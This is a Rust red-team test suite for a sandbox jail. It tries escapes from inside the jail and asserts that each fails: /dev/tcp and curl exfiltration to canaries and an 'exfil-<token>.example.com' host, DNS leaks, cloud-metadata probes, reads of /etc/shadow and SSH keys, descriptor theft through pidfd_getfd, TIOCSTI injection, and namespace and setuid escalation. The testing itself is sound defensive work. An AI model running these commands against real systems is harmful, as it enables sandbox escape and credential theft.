//! The red team (issue 17 items 7 and 8): from a bash inside a Desktop jail, try to reach
//! everything an attacker would want — canaries planted on the host (files, the environment,
//! TCP/UDP/unix listeners), the network, the kernel's odd corners, privileges, limits, the next
//! episode and a neighbouring one. Each attempt is one row: (kind, attempt, held, evidence).
//! Controls run the same attempts on the host and must be *seen* by the canaries, so a broken
//! canary cannot pass silently. Every row must hold.

#[path = "common/canary.rs"]
mod canary;
mod common;

use std::collections::BTreeMap;
use std::net::IpAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use canary::{Canaries, background, bash, host_processes, python, token};
use hands_jail::{HostLauncher, Jail, JailConfig, JailKind, Launcher as _, Limits};

/// One attempt's result.
struct Row {
    kind: &'static str,
    attempt: String,
    held: bool,
    evidence: String,
}

/// What an attempt returns: whether it held, and why we think so.
type Verdict = (bool, String);

/// What the attempts against the main jail share.
struct Ctx {
    jail: Jail,
    canaries: Canaries,
    host_ips: Vec<IpAddr>,
    test_pid: u32,
    /// A host process started with the canary in its environment (like hands' own children).
    env_pid: u32,
    proxy_log: Arc<Mutex<Vec<String>>>,
}

impl Ctx {
    fn t(&self) -> &str {
        &self.canaries.token
    }
    fn port(&self, name: &str) -> u16 {
        self.canaries.addr(name).port()
    }
}

fn short(text: &str) -> String {
    let text = text.trim().replace('\n', " | ");
    if text.chars().count() > 160 {
        format!("{}…", text.chars().take(160).collect::<String>())
    } else {
        text
    }
}

fn said(out: &(String, String, i32)) -> String {
    short(&format!("rc={} out={} err={}", out.2, out.0, out.1))
}

fn config(limits: Limits) -> JailConfig {
    let mut config = JailConfig::new(JailKind::Desktop);
    config.init = common::init();
    config.limits = limits;
    config
}

fn start(limits: Limits) -> Jail {
    Jail::start(&config(limits)).expect("a jail starts on this machine")
}

/// The host's own non-loopback addresses, read on the host.
fn host_ips() -> Vec<IpAddr> {
    let out = std::process::Command::new("ip")
        .args(["-o", "addr", "show"])
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default();
    out.lines()
        .filter_map(|l| {
            let mut words = l.split_whitespace();
            words.find(|w| *w == "inet" || *w == "inet6")?;
            words.next()?.split('/').next()?.parse::<IpAddr>().ok()
        })
        .filter(|ip| {
            !ip.is_loopback()
                && !matches!(ip, IpAddr::V6(v6) if v6.segments()[0] & 0xffc0 == 0xfe80)
        })
        .collect()
}

/// A connection attempt from bash's /dev/tcp: prints CONNECTED when it got through.
fn dev_tcp(host: &str, port: u16, payload: &str) -> String {
    format!(
        "timeout 5 bash -c 'exec 3<>/dev/tcp/{host}/{port} && echo {payload} >&3 && echo CONNECTED' 2>&1; true"
    )
}

/// Python printing `errno <n>` for a call that fails, `OK` when it works.
fn py_errno(body: &str) -> String {
    format!(
        "import ctypes, os, socket, errno, sys\nlibc = ctypes.CDLL(None, use_errno=True)\ntry:\n{}\n    print('OK')\nexcept OSError as e:\n    print('errno', e.errno)\n",
        body.lines()
            .map(|l| format!("    {l}"))
            .collect::<Vec<_>>()
            .join("\n")
    )
}

/// A raw syscall through ctypes: prints `errno <n>` when it returned -1, `OK <ret>` otherwise.
fn py_syscall(nr: i64, args: &str) -> String {
    format!(
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\nr = libc.syscall({nr}{args})\nprint('errno', ctypes.get_errno()) if r == -1 else print('OK', r)\n"
    )
}

fn eperm(out: &(String, String, i32)) -> Verdict {
    (out.0.trim() == "errno 1", said(out))
}

/// Attempts against the main jail, serially (so a canary hit is attributable to one row).
/// Adding an attempt is one line.
#[allow(clippy::type_complexity)]
fn attempts() -> Vec<(&'static str, &'static str, fn(&Ctx) -> Verdict)> {
    vec![
        // --- the network ------------------------------------------------------------------
        ("net", "bash /dev/tcp to the host's 127.0.0.1 canary", |c| {
            let o = bash(
                &c.jail,
                &dev_tcp("127.0.0.1", c.port("tcp 127.0.0.1"), c.t()),
            );
            (!o.0.contains("CONNECTED"), said(&o))
        }),
        (
            "net",
            "bash /dev/tcp to the host's [::] canary via ::1",
            |c| {
                let o = bash(&c.jail, &dev_tcp("::1", c.port("tcp [::]"), c.t()));
                (!o.0.contains("CONNECTED"), said(&o))
            },
        ),
        (
            "net",
            "bash /dev/tcp to the host's 0.0.0.0 canary via 127.0.0.1",
            |c| {
                let o = bash(&c.jail, &dev_tcp("127.0.0.1", c.port("tcp 0.0.0.0"), c.t()));
                (!o.0.contains("CONNECTED"), said(&o))
            },
        ),
        (
            "net",
            "curl --noproxy '*' to the host's loopback canary",
            |c| {
                let o = bash(
                    &c.jail,
                    &format!(
                        "curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:{}/{}",
                        c.port("tcp 127.0.0.1"),
                        c.t()
                    ),
                );
                (o.2 != 0, said(&o))
            },
        ),
        (
            "net",
            "python3 connect to the host's loopback canary",
            |c| {
                let o = python(
                    &c.jail,
                    &py_errno(&format!(
                        "socket.create_connection(('127.0.0.1', {}), 5).send(b'{}')",
                        c.port("tcp 127.0.0.1"),
                        c.t()
                    )),
                );
                (o.0.starts_with("errno"), said(&o))
            },
        ),
        (
            "net",
            "the host's own addresses (0.0.0.0 and [::] canaries)",
            |c| {
                let mut script = String::from("ip_list=''\n");
                for ip in &c.host_ips {
                    script += &dev_tcp(
                        &ip.to_string(),
                        c.port(if ip.is_ipv4() {
                            "tcp 0.0.0.0"
                        } else {
                            "tcp [::]"
                        }),
                        c.t(),
                    );
                    script += "\n";
                }
                let o = bash(&c.jail, &script);
                (
                    !c.host_ips.is_empty() && !o.0.contains("CONNECTED"),
                    format!("{:?}: {}", c.host_ips, said(&o)),
                )
            },
        ),
        (
            "net",
            "cloud metadata 169.254.169.254:80 fails at once (no route)",
            |c| {
                let start = Instant::now();
                let o = bash(&c.jail, &dev_tcp("169.254.169.254", 80, "GET"));
                let took = start.elapsed();
                (
                    !o.0.contains("CONNECTED")
                        && o.0.contains("unreachable")
                        && took < Duration::from_secs(2),
                    format!("{took:?} {}", said(&o)),
                )
            },
        ),
        ("net", "only loopback exists (interfaces, routes)", |c| {
            let o = bash(
                &c.jail,
                "cut -d: -f1 /proc/net/dev | tail -n +3 | tr -d ' '; echo routes; tail -n +2 /proc/net/route; tail -n +1 /proc/net/ipv6_route | grep -v ' lo$'",
            );
            let ifs: Vec<&str> =
                o.0.split("routes")
                    .next()
                    .unwrap_or("")
                    .split_whitespace()
                    .collect();
            (
                ifs == ["lo"] && o.0.trim_end().ends_with("routes"),
                said(&o),
            )
        }),
        (
            "net",
            "curl through the proxy variables reaches only hands' listener",
            |c| {
                let before = c.proxy_log.lock().map(|l| l.len()).unwrap_or(0);
                let o = bash(
                    &c.jail,
                    &format!(
                        "curl -sS --max-time 5 http://exfil-{}.example.com/ 2>&1; true",
                        c.t()
                    ),
                );
                std::thread::sleep(Duration::from_millis(50));
                let seen: Vec<String> = c
                    .proxy_log
                    .lock()
                    .map(|l| l[before..].to_vec())
                    .unwrap_or_default();
                (
                    seen.iter().any(|s| s.contains(c.t())),
                    format!(
                        "fake proxy saw {:?}; {}",
                        seen.iter().map(|s| short(s)).collect::<Vec<_>>(),
                        said(&o)
                    ),
                )
            },
        ),
        // --- DNS ----------------------------------------------------------------------------
        ("dns", "getent hosts exfil-<token>.example.com", |c| {
            let o = bash(
                &c.jail,
                &format!("timeout 10 getent hosts exfil-{}.example.com", c.t()),
            );
            (o.2 != 0 && o.0.trim().is_empty(), said(&o))
        }),
        ("dns", "python getaddrinfo exfil-<token>.example.com", |c| {
            let o = python(
                &c.jail,
                &format!(
                    "import socket\ntry:\n    print(socket.getaddrinfo('exfil2-{}.example.com', 80))\nexcept OSError as e:\n    print('failed', e)",
                    c.t()
                ),
            );
            (o.0.starts_with("failed"), said(&o))
        }),
        (
            "dns",
            "raw UDP to 127.0.0.1:<the logging resolver's port>",
            |c| {
                let o = python(
                    &c.jail,
                    &py_errno(&format!(
                        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'{}', ('127.0.0.1', {}))",
                        c.t(),
                        c.port("udp 127.0.0.1 (dns)")
                    )),
                );
                std::thread::sleep(Duration::from_millis(100));
                (true, format!("(the canary count decides) {}", said(&o)))
            },
        ),
        ("dns", "raw UDP to the host's resolver (resolv.conf)", |c| {
            let resolver = std::fs::read_to_string("/etc/resolv.conf")
                .unwrap_or_default()
                .lines()
                .find_map(|l| l.strip_prefix("nameserver ").map(|s| s.trim().to_owned()))
                .unwrap_or_else(|| "10.255.255.53".into());
            let o = python(
                &c.jail,
                &py_errno(&format!(
                    "s = socket.socket(socket.AF_INET6 if ':' in '{resolver}' else socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'{}', ('{resolver}', 53))",
                    c.t()
                )),
            );
            (
                o.0.trim() == format!("errno {}", libc::ENETUNREACH),
                format!("{resolver}: {}", said(&o)),
            )
        }),
        (
            "dns",
            "raw UDP to the host's own addresses (0.0.0.0 UDP canary)",
            |c| {
                let port = c.port("udp 0.0.0.0");
                let mut results = Vec::new();
                for ip in &c.host_ips {
                    let fam = if ip.is_ipv4() { "AF_INET" } else { "AF_INET6" };
                    let o = python(
                        &c.jail,
                        &py_errno(&format!(
                            "s = socket.socket(socket.{fam}, socket.SOCK_DGRAM)\ns.sendto(b'{}', ('{ip}', {port}))",
                            c.t()
                        )),
                    );
                    results.push((ip.to_string(), o.0.trim().to_owned()));
                }
                (
                    !results.is_empty() && results.iter().all(|(_, r)| r.starts_with("errno")),
                    format!("{results:?}"),
                )
            },
        ),
        // --- ICMP ---------------------------------------------------------------------------
        (
            "icmp",
            "ping (if installed) to 127.0.0.1 and the host's addresses",
            |c| {
                let mut script = String::from("command -v ping || { echo NO-PING; exit 0; }\n");
                for ip in &c.host_ips {
                    script += &format!("ping -c1 -W1 {ip} && echo REPLY\n");
                }
                let o = bash(&c.jail, &script);
                (!o.0.contains("REPLY"), said(&o))
            },
        ),
        ("icmp", "python raw ICMP socket", |c| {
            eperm(&python(
                &c.jail,
                &py_errno("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)"),
            ))
        }),
        (
            "icmp",
            "python ICMP datagram (ping) socket to a host address",
            |c| {
                let ip = c
                    .host_ips
                    .iter()
                    .find(|i| i.is_ipv4())
                    .map(|i| i.to_string())
                    .unwrap_or_else(|| "127.0.0.1".into());
                let o = python(
                    &c.jail,
                    &py_errno(&format!(
                        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\ns.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', ('{ip}', 0))"
                    )),
                );
                (o.0.starts_with("errno"), said(&o))
            },
        ),
        // --- unix sockets -------------------------------------------------------------------
        ("unix", "the host's abstract canary socket", |c| {
            let o = python(
                &c.jail,
                &py_errno(&format!(
                    "s = socket.socket(socket.AF_UNIX)\ns.connect('\\0{}')\ns.send(b'{}')",
                    c.canaries.abstract_name,
                    c.t()
                )),
            );
            (
                o.0.trim() == format!("errno {}", libc::ECONNREFUSED),
                said(&o),
            )
        }),
        ("unix", "the host's path canary socket", |c| {
            let o = python(
                &c.jail,
                &py_errno(&format!(
                    "s = socket.socket(socket.AF_UNIX)\ns.connect('{}')\ns.send(b'{}')",
                    c.canaries.socket_path.display(),
                    c.t()
                )),
            );
            (o.0.starts_with("errno"), said(&o))
        }),
        (
            "unix",
            "no host socket anywhere in the jail's filesystem",
            |c| {
                let o = bash(
                    &c.jail,
                    "find / -path /proc -prune -o -path /usr -prune -o -type s -print 2>/dev/null; ls -A /run /var/run /tmp/.X11-unix /run/dbus 2>&1 | grep -v 'No such'",
                );
                (o.0.trim().is_empty(), said(&o))
            },
        ),
        // --- the kernel's odd corners -------------------------------------------------------
        ("syscall", "AF_VSOCK socket", |c| {
            eperm(&python(
                &c.jail,
                &py_errno("socket.socket(40, socket.SOCK_STREAM)"),
            ))
        }),
        ("syscall", "AF_PACKET socket", |c| {
            eperm(&python(
                &c.jail,
                &py_errno("socket.socket(17, socket.SOCK_RAW, 768)"),
            ))
        }),
        ("syscall", "netlink audit socket", |c| {
            eperm(&python(
                &c.jail,
                &py_errno("socket.socket(16, socket.SOCK_RAW, 9)"),
            ))
        }),
        ("syscall", "netlink sock_diag socket", |c| {
            eperm(&python(
                &c.jail,
                &py_errno("socket.socket(16, socket.SOCK_RAW, 4)"),
            ))
        }),
        ("syscall", "AF_BLUETOOTH / AF_ALG sockets", |c| {
            let a = python(&c.jail, &py_errno("socket.socket(31, socket.SOCK_STREAM)"));
            let b = python(
                &c.jail,
                &py_errno("socket.socket(38, socket.SOCK_SEQPACKET)"),
            );
            (
                a.0.trim() == "errno 1" && b.0.trim() == "errno 1",
                format!("{} / {}", said(&a), said(&b)),
            )
        }),
        ("syscall", "io_uring_setup (425)", |c| {
            eperm(&python(
                &c.jail,
                &py_syscall(425, ", 8, ctypes.create_string_buffer(120)"),
            ))
        }),
        ("syscall", "bpf (321)", |c| {
            eperm(&python(&c.jail, &py_syscall(321, ", 0, 0, 0")))
        }),
        ("syscall", "perf_event_open (298)", |c| {
            eperm(&python(
                &c.jail,
                &py_syscall(298, ", ctypes.create_string_buffer(128), 0, -1, -1, 0"),
            ))
        }),
        ("syscall", "userfaultfd (323)", |c| {
            eperm(&python(&c.jail, &py_syscall(323, ", 0")))
        }),
        ("syscall", "keyctl (250)", |c| {
            eperm(&python(&c.jail, &py_syscall(250, ", 0, 0")))
        }),
        ("syscall", "ptrace attach to the jail's init", |c| {
            let o = bash(
                &c.jail,
                &format!(
                    "pid=$(for p in /proc/[0-9]*; do [ \"$(tr -d '\\0' < $p/cmdline 2>/dev/null)\" = /.hands-init ] && echo ${{p#/proc/}}; done | head -1); echo init=$pid >&2; /usr/bin/python3 -c \"{}\"",
                    py_syscall(101, ", 16, $pid, 0, 0")
                        .replace('\n', ";")
                        .replace(
                            "print('errno', ctypes.get_errno()) if r == -1 else print('OK', r)",
                            "print(('errno %d' % ctypes.get_errno()) if r == -1 else 'OK')"
                        )
                ),
            );
            (o.0.trim() == "errno 1", said(&o))
        }),
        (
            "syscall",
            "pidfd_getfd: steal the init's control socket (its fd 3)",
            |c| {
                let o = bash(
                    &c.jail,
                    "pid=$(for p in /proc/[0-9]*; do [ \"$(tr -d '\\0' < $p/cmdline 2>/dev/null)\" = /.hands-init ] && echo ${p#/proc/}; done | head -1); echo init=$pid >&2; /usr/bin/python3 - $pid <<'EOF'\nimport ctypes, os, sys\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\npfd = libc.syscall(434, int(sys.argv[1]), 0)\nif pfd < 0:\n    print('errno', ctypes.get_errno()); sys.exit()\nfd = libc.syscall(438, pfd, 3, 0)\nprint(('errno %d' % ctypes.get_errno()) if fd < 0 else 'GOT ' + os.readlink('/proc/self/fd/%d' % fd))\nEOF",
                );
                (o.0.starts_with("errno"), said(&o))
            },
        ),
        (
            "syscall",
            "pidfd_getfd on every other process of the jail",
            |c| {
                let o = python(
                    &c.jail,
                    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\nfor p in sorted(int(x) for x in os.listdir('/proc') if x.isdigit()):\n    if p == os.getpid():\n        continue\n    pfd = libc.syscall(434, p, 0)\n    if pfd < 0:\n        print(p, 'pidfd errno', ctypes.get_errno()); continue\n    for fd in range(64):\n        got = libc.syscall(438, pfd, fd, 0)\n        if got >= 0:\n            print(p, fd, 'GOT', os.readlink('/proc/self/fd/%d' % got))\n        elif ctypes.get_errno() != 9:\n            print(p, fd, 'errno', ctypes.get_errno()); break\nprint('end')",
                );
                (!o.0.contains("GOT"), said(&o))
            },
        ),
        (
            "syscall",
            "no hands descriptor inherited by a jailed program",
            |c| {
                // Python opens nothing of its own at start: every descriptor above 2 came from the init.
                let o = python(
                    &c.jail,
                    "import os\nfor fd in range(3, 4096):\n    try:\n        os.fstat(fd)\n        print(fd, os.readlink('/proc/self/fd/%d' % fd))\n    except OSError:\n        pass\nprint('end')",
                );
                (o.0.trim() == "end", said(&o))
            },
        ),
        ("syscall", "TIOCSTI on fd 0", |c| {
            eperm(&python(
                &c.jail,
                &py_errno("import fcntl, termios\nfcntl.ioctl(0, termios.TIOCSTI, b'x')"),
            ))
        }),
        ("syscall", "TIOCSTI on /dev/tty", |c| {
            let o = python(
                &c.jail,
                &py_errno(
                    "import fcntl, termios\nfd = os.open('/dev/tty', os.O_RDWR)\nfcntl.ioctl(fd, termios.TIOCSTI, b'x')",
                ),
            );
            (o.0.starts_with("errno"), said(&o))
        }),
        ("syscall", "TIOCLINUX on fd 0", |c| {
            eperm(&python(
                &c.jail,
                &py_errno("import fcntl\nfcntl.ioctl(0, 0x541C, b'\\x02')"),
            ))
        }),
        // --- credentials and host files -----------------------------------------------------
        ("files", "the host canary files by path", |c| {
            let paths: Vec<String> = c
                .canaries
                .files
                .iter()
                .map(|p| p.display().to_string())
                .collect();
            let o = bash(&c.jail, &format!("cat {} 2>&1; true", paths.join(" ")));
            (!o.0.contains(&format!("CANARY {}", c.t())), said(&o))
        }),
        ("files", "/etc/shadow, /etc/sudoers, /etc/ssh", |c| {
            let o = bash(
                &c.jail,
                "cat /etc/shadow /etc/gshadow /etc/sudoers 2>&1; ls /etc/ssh 2>&1; true",
            );
            (
                !o.0.contains("root:") && !o.0.contains("ssh_host"),
                said(&o),
            )
        }),
        ("files", "the host's /root and the test's $HOME", |c| {
            let home = std::env::var("HOME").unwrap_or_default();
            let o = bash(
                &c.jail,
                &format!("ls -la /root {home} {home}/.ssh /home 2>&1; true"),
            );
            (
                !o.0.contains("hands-canary") && !o.0.contains("id_ed25519"),
                said(&o),
            )
        }),
        (
            "files",
            "grep the token in every readable place but /usr",
            |c| {
                let o = bash(
                    &c.jail,
                    &format!(
                        "grep -rIl --no-messages {} / --exclude-dir=proc --exclude-dir=usr --exclude-dir=sys; echo done",
                        c.t()
                    ),
                );
                (o.0.trim() == "done", said(&o))
            },
        ),
        (
            "files",
            "the token in the environment of every jailed process",
            |c| {
                let o = bash(
                    &c.jail,
                    &format!(
                        "env | grep -c {t}; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c {t}; true",
                        t = c.t()
                    ),
                );
                (
                    o.0.split_whitespace().all(|n| n == "0") && !o.0.contains(c.t()),
                    said(&o),
                )
            },
        ),
        (
            "files",
            "/proc/<test pid>/environ and /mem (host pids are not there)",
            |c| {
                let p = c.test_pid;
                let q = c.env_pid;
                let o = bash(
                    &c.jail,
                    &format!(
                        "ls /proc | grep -E '^[0-9]+$' | sort -n | tail -1; cat /proc/{p}/environ 2>&1 | tr '\\0' '\\n' | grep {t}; dd if=/proc/{p}/mem bs=1 count=1 2>&1 | head -1; cat /proc/{p}/cmdline 2>&1 | tr '\\0' ' '; cat /proc/{q}/environ 2>&1 | tr '\\0' '\\n' | grep {t}",
                        t = c.t()
                    ),
                );
                (!o.0.contains(c.t()) && !o.0.contains("red_team"), said(&o))
            },
        ),
        (
            "files",
            "/proc/1/root and /proc/*/cwd lead only into the jail",
            |c| {
                let o = bash(
                    &c.jail,
                    &format!(
                        "for p in /proc/[0-9]*; do cat $p/root{f} $p/cwd/../..{f} 2>/dev/null; ls $p/root/root 2>/dev/null; done; true",
                        f = c.canaries.files[2].display()
                    ),
                );
                (!o.0.contains(c.t()) && o.0.trim().is_empty(), said(&o))
            },
        ),
        ("files", "/sys and the host's cgroups are not there", |c| {
            let o = bash(
                &c.jail,
                "ls /sys/class/net /sys/fs/cgroup /sys/kernel 2>&1 | grep -v 'No such'; true",
            );
            (o.0.trim().is_empty(), said(&o))
        }),
        // --- writes outside the workspace ---------------------------------------------------
        (
            "write",
            "/usr, /etc, /, /home/user/../.. and the host canary dir",
            |c| {
                let t = c.t();
                let dir = c.canaries.dir.display();
                let o = bash(
                    &c.jail,
                    &format!(
                        "for f in /usr/hands-{t} /usr/bin/hands-{t} /etc/hands-{t} /hands-{t} /home/user/../../hands2-{t} {dir}/x-{t} /root/hands-{t}; do echo x > $f 2>/dev/null && echo WROTE $f; done; true"
                    ),
                );
                let host_leak = [
                    "/usr/hands-",
                    "/usr/bin/hands-",
                    "/etc/hands-",
                    "/hands-",
                    "/hands2-",
                    "/root/hands-",
                ]
                .iter()
                .any(|p| std::path::Path::new(&format!("{p}{t}")).exists())
                    || std::fs::read_dir(&c.canaries.dir)
                        .map(|d| d.count() > 0)
                        .unwrap_or(true);
                (!o.0.contains("WROTE") && !host_leak, said(&o))
            },
        ),
        (
            "write",
            "chmod/chown of the jail's home and /workspace stay the jail's (no host root)",
            |c| {
                let o = bash(
                    &c.jail,
                    "chown 0:0 /home/user 2>&1; chown 0 /workspace 2>&1; echo; stat -c '%u %g' /home/user /workspace",
                );
                use std::os::unix::fs::MetadataExt as _;
                let host = std::fs::metadata(c.jail.home_dir())
                    .map(|m| m.uid())
                    .unwrap_or(0);
                (
                    host == c.jail.host_uid() && o.0.contains("1000 1000"),
                    format!("host owner {host}; {}", said(&o)),
                )
            },
        ),
        // --- namespaces and mounts ----------------------------------------------------------
        ("ns", "unshare -r (new user namespace)", |c| {
            let o = bash(&c.jail, "unshare -r id -u");
            (o.2 != 0, said(&o))
        }),
        ("ns", "unshare -m (new mount namespace)", |c| {
            let o = bash(&c.jail, "unshare -m true");
            (o.2 != 0, said(&o))
        }),
        ("ns", "unshare -n (new network namespace)", |c| {
            let o = bash(&c.jail, "unshare -n true");
            (o.2 != 0, said(&o))
        }),
        ("ns", "mount tmpfs", |c| {
            let o = bash(&c.jail, "mkdir -p /tmp/m && mount -t tmpfs none /tmp/m");
            (o.2 != 0, said(&o))
        }),
        ("ns", "python unshare(CLONE_NEWUSER)", |c| {
            eperm(&python(
                &c.jail,
                &py_errno(
                    "if libc.unshare(0x10000000) != 0:\n    raise OSError(ctypes.get_errno(), 'unshare')",
                ),
            ))
        }),
        (
            "ns",
            "python setns (into its own network namespace: the call itself is denied)",
            |c| {
                eperm(&python(
                    &c.jail,
                    &py_errno(
                        "fd = os.open('/proc/self/ns/net', os.O_RDONLY)\nif libc.setns(fd, 0) != 0:\n    raise OSError(ctypes.get_errno(), 'setns')",
                    ),
                ))
            },
        ),
        ("ns", "chroot", |c| {
            eperm(&python(&c.jail, &py_errno("os.chroot('/tmp')")))
        }),
        ("ns", "bwrap inside the jail", |c| {
            let o = bash(
                &c.jail,
                "command -v bwrap || exit 7; bwrap --ro-bind / / id -u",
            );
            (o.2 != 0, said(&o))
        }),
        (
            "write",
            "/proc/sys, /proc/sysrq-trigger, core_pattern",
            |c| {
                let o = bash(
                    &c.jail,
                    "for f in /proc/sys/vm/drop_caches /proc/sysrq-trigger /proc/sys/kernel/core_pattern /proc/sys/kernel/hostname; do echo 1 > $f 2>/dev/null && echo WROTE $f; done; true",
                );
                (!o.0.contains("WROTE"), said(&o))
            },
        ),
        ("files", "dmesg, /dev/kmsg, /dev/mem, block devices", |c| {
            let o = bash(
                &c.jail,
                "dmesg 2>&1 | head -2; ls /dev; ls /dev | grep -E '^(kmsg|mem|kmem|port|sd|vd|nvme|xvd|loop|dm-|vsock|vhost|kvm|fuse)' && echo DEVICE; true",
            );
            (!o.0.contains("DEVICE") && !o.0.contains("] "), said(&o))
        }),
        (
            "net",
            "cloud metadata over IPv6 (fd00:ec2::254) fails at once",
            |c| {
                let start = Instant::now();
                let o = bash(&c.jail, &dev_tcp("fd00:ec2::254", 80, "GET"));
                let took = start.elapsed();
                (
                    !o.0.contains("CONNECTED")
                        && o.0.contains("unreachable")
                        && took < Duration::from_secs(2),
                    format!("{took:?} {}", said(&o)),
                )
            },
        ),
        (
            "unix",
            "host processes cannot reach the jail's own abstract socket or loopback port",
            |c| {
                let name = format!("hands-rev-{}", &c.t()[..12]);
                let port = 20000 + u16::from_str_radix(&c.t()[..3], 16).unwrap_or(0);
                let listener = background(
                    &c.jail,
                    &[
                        "/usr/bin/python3",
                        "-c",
                        &format!(
                            "import socket, time\na = socket.socket(socket.AF_UNIX)\na.bind('\\0{name}')\na.listen()\nt = socket.socket()\nt.bind(('127.0.0.1', {port}))\nt.listen()\ntime.sleep(20)"
                        ),
                    ],
                );
                let inside = (0..100).map(|_| { std::thread::sleep(Duration::from_millis(30)); python(&c.jail, &py_errno(&format!("socket.socket(socket.AF_UNIX).connect('\\0{name}')\nsocket.create_connection(('127.0.0.1', {port}), 2)"))) }).find(|o| o.0.trim() == "OK");
                let host = python(
                    &HostLauncher,
                    &py_errno(&format!(
                        "socket.socket(socket.AF_UNIX).connect('\\0{name}')"
                    )),
                );
                let host_tcp = std::net::TcpStream::connect_timeout(
                    &([127, 0, 0, 1], port).into(),
                    Duration::from_secs(2),
                );
                drop(listener);
                (
                    inside.is_some() && host.0.starts_with("errno") && host_tcp.is_err(),
                    format!(
                        "inside up: {}; host abstract: {}; host tcp: {:?}",
                        inside.is_some(),
                        said(&host),
                        host_tcp.map(|_| "CONNECTED")
                    ),
                )
            },
        ),
        (
            "limits",
            "raising the hard process and file-size rlimits",
            |c| {
                let o = bash(
                    &c.jail,
                    "ulimit -H -u unlimited 2>&1 && echo RAISED; ulimit -H -f unlimited 2>&1 && echo RAISED; ulimit -H -u; ulimit -H -f",
                );
                (!o.0.contains("RAISED"), said(&o))
            },
        ),
        // --- privileges ---------------------------------------------------------------------
        ("priv", "NoNewPrivs set, no capability at all", |c| {
            let o = bash(
                &c.jail,
                "grep -E '^(NoNewPrivs|CapInh|CapPrm|CapEff|CapBnd|CapAmb):' /proc/self/status",
            );
            let ok = o.0.contains("NoNewPrivs:\t1")
                && o.0
                    .lines()
                    .filter(|l| l.starts_with("Cap"))
                    .all(|l| l.ends_with("0000000000000000"));
            (ok, said(&o))
        }),
        (
            "priv",
            "setuid binaries (su, sudo, mount, passwd, ...) do not escalate",
            |c| {
                let o = bash(
                    &c.jail,
                    "found=$(find /usr/bin /usr/sbin /usr/lib -xdev -perm -4000 -type f 2>/dev/null | tr '\\n' ' '); echo \"setuid: $found\"; su -c 'id -u' root </dev/null 2>&1; sudo -n id -u 2>&1; mount -t tmpfs none /mnt 2>&1 && echo MOUNTED; for b in $found; do $b --version </dev/null >/dev/null 2>&1; done; id -u",
                );
                let escalated =
                    o.0.lines().skip(1).any(|l| l.trim() == "0") || o.0.contains("MOUNTED");
                (!escalated && o.0.trim_end().ends_with("1000"), said(&o))
            },
        ),
        (
            "priv",
            "file capabilities on /usr binaries give nothing (NoNewPrivs)",
            |c| {
                let o = python(
                    &c.jail,
                    "import os, subprocess\nfound = []\nfor d in ['/usr/bin', '/usr/sbin']:\n    for n in os.listdir(d):\n        p = os.path.join(d, n)\n        try:\n            os.getxattr(p, 'security.capability', follow_symlinks=False); found.append(p)\n        except OSError:\n            pass\nprint('with caps:', found)\nfor p in found:\n    r = subprocess.run(['/bin/sh', '-c', 'grep CapEff /proc/self/status'], capture_output=True)\nprint(open('/proc/self/status').read().split('CapEff:')[1].split()[0])",
                );
                (o.0.trim_end().ends_with("0000000000000000"), said(&o))
            },
        ),
    ]
}

/// Two jails at once: `a` must not see or touch what `b` has (token in home and /tmp, a loopback
/// listener, its processes).
fn neighbours(a: &Jail, b: &Jail, name: &str) -> Vec<Row> {
    let tok = token();
    let port = 40000 + (u16::from_str_radix(&tok[..3], 16).unwrap_or(0) % 20000);
    let f = format!("secret-{}", &tok[..8]);
    let wrote = bash(
        b,
        &format!("echo {tok} > ~/{f}; echo {tok} > /tmp/{f}; echo {tok} > /dev/shm/{f}"),
    );
    assert_eq!(wrote.2, 0, "{}", said(&wrote));
    let listener = background(
        b,
        &[
            "/usr/bin/python3",
            "-c",
            &format!(
                "import socket, time\ns = socket.socket()\ns.bind(('127.0.0.1', {port}))\ns.listen()\ntime.sleep(60)\n# {tok}"
            ),
        ],
    );
    // The listener is up in `b` (it answers there) before `a` tries.
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut up = bash(b, &dev_tcp("127.0.0.1", port, "hi"));
    while !up.0.contains("CONNECTED") && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
        up = bash(b, &dev_tcp("127.0.0.1", port, "hi"));
    }
    let host_pid = listener.host_id().unwrap_or(0);
    let mut rows = Vec::new();
    let mut row = |attempt: String, (held, evidence): Verdict| {
        rows.push(Row {
            kind: "neighbour",
            attempt,
            held,
            evidence,
        });
    };
    row(
        format!("{name}: control: the neighbour's listener answers in its own jail"),
        (
            up.0.contains("CONNECTED") && host_pid != 0,
            format!("host pid {host_pid}; {}", said(&up)),
        ),
    );
    let o = bash(
        a,
        &format!(
            "cat ~/{f} /tmp/{f} /dev/shm/{f} 2>&1; grep -rIl --no-messages {tok} / --exclude-dir=proc --exclude-dir=usr --exclude-dir=sys; true"
        ),
    );
    row(
        format!("{name}: the neighbour's home, /tmp and /dev/shm files"),
        (!o.0.contains(&tok), said(&o)),
    );
    let o = bash(a, &dev_tcp("127.0.0.1", port, &tok));
    row(
        format!("{name}: the neighbour's loopback port {port}"),
        (!o.0.contains("CONNECTED"), said(&o)),
    );
    let (t1, t2) = tok.split_at(16);
    let o = bash(
        a,
        &format!(
            "t={t1}; t=${{t}}{t2}; for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline 2>/dev/null; echo; done | grep -v grep | grep -c $t; ls /proc/{host_pid} 2>&1 | head -1"
        ),
    );
    row(
        format!("{name}: the neighbour's processes in /proc"),
        (o.0.starts_with("0\n") && !o.0.contains("cmdline"), said(&o)),
    );
    let o = bash(
        a,
        &format!(
            "kill -KILL {host_pid} 2>&1 && echo SIGNALLED; kill -KILL -{host_pid} 2>&1 && echo SIGNALLED; true"
        ),
    );
    std::thread::sleep(Duration::from_millis(100));
